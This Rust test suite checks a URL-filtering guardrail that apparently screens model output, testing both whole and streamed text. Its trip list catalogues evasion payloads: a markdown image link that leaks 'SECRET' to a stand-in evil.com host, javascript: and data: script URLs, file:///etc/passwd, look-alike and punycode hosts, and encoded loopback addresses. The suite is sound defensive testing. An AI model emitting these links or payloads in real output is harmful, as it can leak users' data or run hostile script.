//! Ways to write a URL that a browser or a markdown renderer follows, and
//! text that only looks like one: each with the decision `UrlFilter` must
//! reach, whole and streamed in pieces.
//!
//! The filter allows `example.com` (and so `www.example.com`) over `https`
//! only, unless a table says otherwise. A case that trips names the kind of
//! finding it must report; one that passes must find nothing.

use crate::support;

use openai_hooks::guardrails::{URL_LOOKAHEAD, UrlAction, UrlFilter};
use openai_hooks::limits::URL_TOKEN_CAP;
use support::stream::{Field, split, stream_text};

const SCHEME: Option<&str> = Some("scheme_not_allowed");
const USERINFO: Option<&str> = Some("userinfo_not_allowed");
const HOST: Option<&str> = Some("host_not_allowed");
const CONFUSABLE: Option<&str> = Some("confusable_host");
const MIXED: Option<&str> = Some("mixed_script_host");
const PASS: Option<&str> = None;

/// Forms that must trip, and what they must be found as.
const TRIP: &[(&str, Option<&str>)] = &[
    // The list.
    ("![x](//evil.com/p?d=SECRET)", HOST),
    ("https:evil.com/x", HOST),
    ("https:/evil.com/x", HOST),
    ("[a](javascript:alert(1))", SCHEME),
    ("data:text/html,<script>alert(1)</script>", SCHEME),
    ("https://пример.рф/", HOST),
    ("https://\u{435}xample.com/", CONFUSABLE),
    ("https://ex\u{430}mple.com/login", CONFUSABLE),
    // Case, slashes and backslashes, userinfo.
    ("HTTPS://EVIL.COM", HOST),
    ("https:\\\\evil.com", HOST),
    ("https:\\/evil.com", HOST),
    ("https://evil.com\\@example.com", HOST),
    ("https://example.com\\@evil.com", USERINFO),
    ("https://example.com.evil.com", HOST),
    ("https://example.com@evil.com", USERINFO),
    ("https://evil.com:443@example.com/", USERINFO),
    ("https://sub.example.com/", HOST),
    ("https://example.com%2F@evil.com/", USERINFO),
    // Protocol-relative, in prose and as targets.
    ("//evil.com", HOST),
    ("see //evil.com/p?d=1 now", HOST),
    ("(//evil.com/x)", HOST),
    ("[a](\\\\evil.com/x)", HOST),
    ("[a](/\\evil.com/x)", HOST),
    ("![x](//evil)", HOST),
    ("//0x7f.1/", HOST),
    // Autolinks, HTML attributes, reference definitions.
    ("<https://evil.com>", HOST),
    ("<a href=\"//evil.com\">x</a>", HOST),
    ("<a href='https://evil.com'>x</a>", HOST),
    ("<img src=https:evil.com>", HOST),
    ("<img SRC=\"data:image/png;base64,iVBORw0KGgo=\">", SCHEME),
    ("<form action=\"https://evil.com/c\">", HOST),
    ("[x]: //evil.com", HOST),
    ("[x]://evil.com", HOST),
    ("[x]:mailto:jane@evil.com", SCHEME),
    ("[a](<https://evil.com/a b>)", HOST),
    ("[a](https://example.com)[b](https://evil.com)", HOST),
    ("[a](https://evil.com \"title\")", HOST),
    ("[a](mailto:jane@evil.com)", SCHEME),
    ("[a](file:///etc/passwd)", SCHEME),
    ("[a](vbscript:msgbox(1))", SCHEME),
    ("[a](data:text/html;base64,PHNjcmlwdD4=)", SCHEME),
    ("[a](https://example.com\"@evil.com/)", USERINFO),
    // Encoded hosts and IPv4 spellings.
    ("https://%65vil.com", HOST),
    ("https://ex%61mple.com.evil.com", HOST),
    ("https://[::1]/", HOST),
    ("https://2130706433/", HOST),
    // Fullwidth, zero-width, ideographic dots.
    ("ｈｔｔｐｓ：／／ｅｖｉｌ．ｃｏｍ", HOST),
    ("ｈｔｔｐｓ：ｅｖｉｌ．ｃｏｍ", HOST),
    ("https://evil\u{3002}com/", HOST),
    ("https://evil\u{FF61}com/", HOST),
    ("https://example.com\u{3002}evil.jp/", HOST),
    ("https://example.com\u{3002}ai", HOST),
    ("https://example.comをevil.jp/", HOST),
    ("https://e\u{200B}vil.com", HOST),
    // Quoted, bracketed, in code, in markdown emphasis.
    ("(https://evil.com)", HOST),
    ("\"https://evil.com\"", HOST),
    ("'https://evil.com'", HOST),
    ("`https://evil.com`", HOST),
    ("**www.evil.com**", HOST),
    ("_https://evil.com_", HOST),
    ("{\"url\":\"https://evil.com\"}", HOST),
    ("\"https://example.com\"@evil.com/", USERINFO),
    ("https://example.com\"@evil.com/", USERINFO),
    ("(https://example.com)@evil.com/", USERINFO),
    ("`https://example.com`@evil.com/", USERINFO),
    ("<https://example.com>@evil.com/", USERINFO),
    ("url:https://evil.com", HOST),
    ("詳しくはhttps://evil.comをご覧ください", HOST),
    // Active schemes, however spelled.
    ("javascript:alert(1)", SCHEME),
    ("JaVaScRiPt:alert(1)", SCHEME),
    ("vbscript:msgbox(1)", SCHEME),
    ("java\u{200B}script:alert(1)", SCHEME),
    ("<a href=\"java&#x09;script:alert(1)\">", SCHEME),
    ("<a href=\"java&Tab;script:alert(1)\">", SCHEME),
    ("<a href=\"&#106;avascript:alert(1)\">", SCHEME),
    ("<a href=\"&#0000106avascript:alert(1)\">", SCHEME),
    ("[a](javascript&colon;alert(1))", SCHEME),
    ("[a](https&colon;//evil.com)", HOST),
    ("&#104;ttps://evil.com", HOST),
    ("data:image/svg+xml;base64,PHN2Zz4=", SCHEME),
    ("data:,hello", SCHEME),
    ("file:///etc/passwd", SCHEME),
    ("ws://evil.com/socket", SCHEME),
    ("xhttps://example.com", SCHEME),
    ("http://example.com", SCHEME),
    // Punycode and look-alikes.
    ("https://xn--e1afmkfd.xn--p1ai/", HOST),
    ("https://xn--xample-2of.com/", CONFUSABLE),
    ("\u{435}xample.com", CONFUSABLE),
    ("www.\u{435}xample.com", CONFUSABLE),
    ("https://exarnple.com", CONFUSABLE),
    ("https://\u{440}\u{430}y\u{440}\u{430}l.com", MIXED),
    // Hosts without a scheme (as before).
    ("www.evil.com", HOST),
    ("evil.com/login", HOST),
    ("evil.comで", HOST),
    ("xn--e1afmkfd.xn--p1ai/", HOST),
    ("bücher.evil.com", HOST),
];

/// Text that must pass.
const PASS_CASES: &[&str] = &[
    "https://example.com/x",
    "https://www.example.com/",
    "https://EXAMPLE.COM/Path",
    "https://example.com./x",
    "ｈｔｔｐｓ：／／ｅｘａｍｐｌｅ．ｃｏｍ／ｘ",
    "https://example\u{3002}com/",
    "<https://example.com>",
    "[docs](https://example.com/guide \"Guide\")",
    "![logo](https://www.example.com/logo.png)",
    "<a href=\"https://example.com\">home</a>",
    "<img src='//example.com/a.png'>",
    "{\"url\":\"https://example.com\",\"n\":1}",
    "{\"url\":\"https://example.com\",\"mail\":\"jane@evil.com\"}",
    "[a](https://example.com),jane@evil.com",
    "[\"https://example.com\",\"https://www.example.com\"]",
    "https://example.com/wiki/Rust_(language)",
    "(see https://example.com/a_(b))",
    "https://example.com/r?u=https://evil.com",
    "https://example.com/a#@evil.com",
    "詳しくはhttps://example.comをご覧ください",
    "詳細はexample.comで",
    "公式サイト：https://example.com/docsを参照。",
    "https://example.com\u{3002}",
    // Prose, code and numbers.
    "e.g. this, i.e. that",
    "see main.rs and src/lib.rs",
    "v1.2.3 and 2.0.1",
    "mail jane@evil.com or first.last@evil.com",
    "mailto:jane@evil.com",
    "a ratio of 3:2, a:b",
    "at 10:30 or 23:59:59",
    "/usr/local/bin and ./run.sh",
    "C:\\Users\\me\\file.txt",
    "\"C:\\\\Users\\\\me\"",
    "the word javascript in prose",
    "JavaScript: the good parts",
    "Input data: the numbers",
    "Note:see below",
    "std::vec::Vec and a::b",
    "localhost:8080",
    "// a comment",
    "//TODO fix this",
    "x = a //2",
    "a//b",
    "//console.log(x)",
    "URLs start with https:// and then a host",
    "HTTP: the protocol",
    "<xsl:template>",
    "Tom &amp; Jerry &lt;3",
    "[a](docs/guide.md)",
    "[a](#anchor)",
    "[a](/path/to)",
    "![img](./pic.png)",
    "<a href=\"/about\">about</a>",
    "これは例です。次の文です。",
    "Привет, мир. Как дела?",
    "这是一个测试，没有链接。",
    "naïve café façade",
    "1.5x faster, 3.14159",
    "foo(bar.baz)",
    "print(x);",
];

fn filter() -> UrlFilter {
    UrlFilter::new(["example.com"]).unwrap()
}

/// The kinds a check found, as `kind` names.
fn kinds(check: &openai_hooks::guardrails::Check) -> Vec<String> {
    check.info["findings"]
        .as_object()
        .map(|m| m.keys().cloned().collect())
        .unwrap_or_default()
}

fn assert_case(f: &UrlFilter, text: &str, want: Option<&str>) {
    let check = f.check(text);
    match want {
        Some(kind) => {
            assert!(check.tripped, "{text:?} passed");
            assert!(
                kinds(&check).iter().any(|k| k == kind),
                "{text:?}: found {:?}, not {kind}",
                kinds(&check)
            );
        }
        None => assert!(!check.tripped, "{text:?} tripped: {}", check.info),
    }
}

#[test]
fn evasions_trip() {
    let f = filter();
    for &(text, want) in TRIP {
        assert_case(&f, text, want);
        // In a sentence, too.
        assert_case(&f, &format!("Please see {text} for details."), want);
    }
}

#[test]
fn ordinary_text_passes() {
    let f = filter();
    for text in PASS_CASES {
        assert_case(&f, text, PASS);
    }
    let all = PASS_CASES.join(" ");
    assert_case(&f, &all, PASS);
}

#[test]
fn ipv4_spellings_are_compared_as_addresses() {
    let f = UrlFilter::new(["example.com", "10.0.0.0/8"])
        .unwrap()
        .schemes(["https", "http"]);
    for (text, want) in [
        ("http://0x7f.1/", HOST),
        ("http://2130706433/", HOST),
        ("http://0177.0.0.1/", HOST),
        ("http://127.1/", HOST),
        ("//0x7f.0.0.1/x", HOST),
        ("http://0xa.1/", PASS),
        ("http://167772161/", PASS),
        ("http://012.0.0.1/", PASS),
        ("10.1.2.3", PASS),
        ("http://10.1.2.3.example.com.evil.com/", HOST),
    ] {
        assert_case(&f, text, want);
    }
}

#[test]
fn www_subdomains_and_idn_allow_entries() {
    let f = filter().allow_www(false);
    assert_case(&f, "https://www.example.com/", HOST);
    assert_case(&f, "https://example.com/", PASS);
    let f = filter().allow_subdomains(true);
    assert_case(&f, "https://a.b.example.com/", PASS);
    assert_case(&f, "https://пример.example.com/", PASS);
    assert_case(&f, "https://\u{440}aypal.example.com/", MIXED);
    assert_case(&f, "https://badexample.com/", HOST);
    let f = UrlFilter::new(["bücher.example", "пример.рф"]).unwrap();
    for ok in [
        "https://bücher.example/list",
        "https://xn--bcher-kva.example/list",
        "https://BÜCHER.example/",
        "bücher.example/list",
        "https://пример.рф/",
        "https://www.пример.рф/",
        "https://xn--e1afmkfd.xn--p1ai/",
    ] {
        assert_case(&f, ok, PASS);
    }
    assert_case(&f, "https://bucher.example/", HOST);
    assert_case(&f, "https://xn--bcher-kva.evil/", HOST);
    let f = filter().allow_userinfo(true);
    assert_case(&f, "https://user@example.com/", PASS);
    assert_case(&f, "https://example.com@evil.com/", HOST);
    let f = filter().schemes(["https", "mailto"]);
    assert_case(&f, "[a](mailto:jane@evil.com)", PASS);
}

#[test]
fn masking_covers_the_whole_url() {
    let m = filter().action(UrlAction::Mask);
    for (text, want) in [
        ("a ![x](//evil.com/p?d=S) b", "a ![x](<URL>) b"),
        (
            "a <a href=\"java&#x09;script:x()\">b</a>",
            "a <a href=\"<URL>\">b</a>",
        ),
        ("a \u{435}xample.com b", "a <URL> b"),
        ("a https:evil.com/x, b", "a <URL>, b"),
        (
            "[a](https://example.com)[b](https://evil.com)",
            "[a](https://example.com)[b](<URL>)",
        ),
        ("see https://evil.comをご覧ください", "see <URL>"),
    ] {
        let check = m.check(text);
        assert_eq!(check.text.as_deref(), Some(want), "{text:?}");
    }
}

/// Unbroken base64 of every length around the cap, then a URL: the URL is
/// found whole, never cut by a piece boundary, whole and streamed.
#[test]
fn a_url_after_a_long_run_is_found_whole() {
    let f = filter();
    let m = filter().action(UrlAction::Mask);
    let urls = [
        "https://evil.com/x",
        "![x](//evil.com/p)",
        "javascript:alert(1)",
    ];
    let around = |n: usize| n.saturating_sub(12)..n + 12;
    let lengths = around(URL_TOKEN_CAP)
        .chain(around(URL_TOKEN_CAP - URL_LOOKAHEAD))
        .chain(around(2 * URL_TOKEN_CAP))
        .chain(around(URL_TOKEN_CAP / 2));
    for n in lengths {
        for (sep, url) in [
            ("=", urls[0]),
            ("+", urls[1]),
            ("/", urls[0]),
            (",", urls[2]),
        ] {
            let text = format!(
                "{}{sep}{url} tail",
                "QUJD".repeat(n / 4 + 1)[..n].to_owned()
            );
            assert!(f.check(&text).tripped, "{n} {sep}{url}");
            let masked = m.check(&text).text.unwrap_or_default();
            assert!(
                !masked.contains("evil") && !masked.contains("alert"),
                "{n}: {masked}"
            );
            for cuts in [vec![n], vec![n - 3, n + 4], vec![1000, 2047, 2049, 3000]] {
                let seen = stream_text(&m, &split(&text, &cuts), Field::Content, true);
                assert_eq!(seen.text(0), masked, "{n} {cuts:?}");
            }
        }
    }
    // A URL longer than the cap trips and is masked to its end.
    let long = format!("a https://evil.com/{} b", "p".repeat(3 * URL_TOKEN_CAP));
    let masked = m.check(&long).text.unwrap_or_default();
    assert!(
        masked.starts_with("a <URL>") && masked.ends_with("<URL> b"),
        "{masked}"
    );
    assert!(!masked.contains('p'), "{masked}");
    let long_ok = format!("a https://example.com/{} b", "p".repeat(3 * URL_TOKEN_CAP));
    assert!(!f.check(&long_ok).tripped);
    // A scheme longer than the look-ahead, cut by a piece boundary: not
    // known, so not allowed.
    let text = format!("{}https://example.com", "A".repeat(URL_TOKEN_CAP + 10));
    assert!(f.check(&text).tripped);
}

/// Long tokens of other kinds before a URL: CJK letters (piece ends fall
/// inside characters), character references that decode to nothing, a word
/// that is tried as a host and is none.
#[test]
fn long_tokens_of_any_kind_keep_urls_whole() {
    let f = filter();
    let m = filter().action(UrlAction::Mask);
    for lead in ["例", "&Tab;", "a.b_c/", "日本語です。", "x,"] {
        for n in [300, 700, 1000, 2000] {
            let text = format!("{}https://evil.com/x tail", lead.repeat(n));
            assert!(f.check(&text).tripped, "{lead} x {n}");
            let masked = m.check(&text).text.unwrap_or_default();
            assert!(!masked.contains("evil"), "{lead} x {n}");
            for cuts in [vec![4000], vec![2047, 2048, 2049], vec![text.len() - 10]] {
                let seen = stream_text(&m, &split(&text, &cuts), Field::Content, true);
                assert_eq!(seen.text(0), masked, "{lead} x {n} {cuts:?}");
            }
            let clean = format!("{}https://example.com/x tail", lead.repeat(n));
            assert!(!f.check(&clean).tripped, "{lead} x {n}");
        }
    }
}

/// A URL in a long token whose authority runs past what a piece holds of
/// it: judged on that much it might pass, so it trips.
#[test]
fn an_authority_longer_than_a_piece_trips() {
    let f = filter();
    for pad in [10, 700, 1500, 2100, 3000] {
        for url in [
            format!("https://example.com:{}@evil.com/", "1".repeat(1100)),
            format!("https://{}@evil.com/", "example.com".repeat(120)),
            format!("[a](//example.com:{}@evil.com)", "9".repeat(1500)),
        ] {
            let text = format!("{}={url} end", "QUJD".repeat(pad / 4));
            assert!(f.check(&text).tripped, "{pad} {}", &url[..30]);
        }
    }
}

/// Tokens made of one pattern, repeated: each is decided, in work linear
/// in its length (a quadratic walk would take minutes at this size).
#[test]
fn adversarial_tokens_are_decided() {
    let f = filter();
    for (unit, trips) in [
        ("](", false),
        ("[a](", false),
        ("(((", false),
        ("a.b.", false),
        ("&#0;", false),
        ("例。", false),
        ("https://example.com/(", false),
        ("https:,", true),
        (",//", true),
        ("\"https://", true),
        ("//x.co/", true),
    ] {
        let text = unit.repeat(200_000 / unit.len());
        assert_eq!(f.check(&text).tripped, trips, "{unit:?}");
    }
}

/// Streaming any of the cases in pieces decides as the whole text does.
#[test]
fn cases_decide_the_same_streamed() {
    let f = filter();
    let m = filter().action(UrlAction::Mask);
    let texts = TRIP
        .iter()
        .map(|(t, _)| *t)
        .chain(PASS_CASES.iter().copied());
    for text in texts {
        let text = format!("x {text} y");
        let whole = m.check(&text).text.unwrap_or_else(|| text.clone());
        for at in (0..=text.len()).filter(|&i| text.is_char_boundary(i)) {
            let pieces = split(&text, &[at]);
            let seen = stream_text(&m, &pieces, Field::Content, true);
            assert_eq!(seen.text(0), whole, "{text:?} cut at {at}");
            let seen = stream_text(&f, &pieces, Field::Content, true);
            assert_eq!(
                seen.error.is_some(),
                f.check(&text).tripped,
                "{text:?} at {at}"
            );
        }
    }
}

#[test]
fn bad_input_gets_a_decision() {
    let f = filter();
    for text in [
        "https://",
        "https://[",
        "https://[::1",
        "https://a\u{378}.com/",
        "https://xn--zz.com/",
        "https://%ff%fe/",
        "https://.../",
        "http://999999999999/",
        "&#xFFFFFFFFFF;&#;&#x;&",
        "[a](",
        "[a](<",
        "<a href=",
        "<a href=\"",
        "]:",
        "data:",
        "\u{3002}\u{3002}https:\u{3002}",
    ] {
        let _ = f.check(text);
        let _ = f.check(&text.repeat(300));
    }
}
